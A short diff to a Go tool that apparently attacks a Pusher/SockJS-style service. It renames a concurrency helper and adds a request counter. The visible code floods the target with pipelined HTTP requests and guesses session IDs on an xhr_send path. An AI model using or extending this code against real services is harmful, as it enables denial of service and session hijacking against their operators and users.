@@ -21,7 +21,7 @@ func pipelined(ctx context.Context, a *attack, connections int, next func() stri
 	answers = &[600]atomic.Int64{}
 	const depth = 16
 	for range connections {
-		a.beside(func() {
+		a.meanwhile(func() {
 			for ctx.Err() == nil {
 				if alive, _ := a.alive(); !alive {
 					return
@@ -44,6 +44,7 @@ func pipelined(ctx context.Context, a *attack, connections int, next func() stri
 						if resp, err = http.ReadResponse(in, nil); err == nil {
 							_, err = io.Copy(io.Discard, resp.Body)
 							answers[resp.StatusCode].Add(1)
+							a.asked.Add(1)
 						}
 					}
 				}
@@ -87,7 +88,7 @@ func guess(ctx context.Context, a *attack) {
 	}
 	path := func(id string) string { return "/pusher/app/lobby-key/1/" + id + "/xhr_send" }
 	var asked, got atomic.Int64
-	a.beside(func() {
+	a.meanwhile(func() {
 		kept := caller(attacker(0))
 		for ctx.Err() == nil {
 			asked.Add(1)
@@ -139,7 +140,7 @@ func (a *attack) openSession(ctx context.Context, id string) error {
 		text += string(b[:n])
 	}
 	_ = conn.SetDeadline(time.Time{})
-	a.beside(func() { _, _ = io.Copy(io.Discard, conn) })
+	a.meanwhile(func() { _, _ = io.Copy(io.Discard, conn) })
 	return nil
 }
 
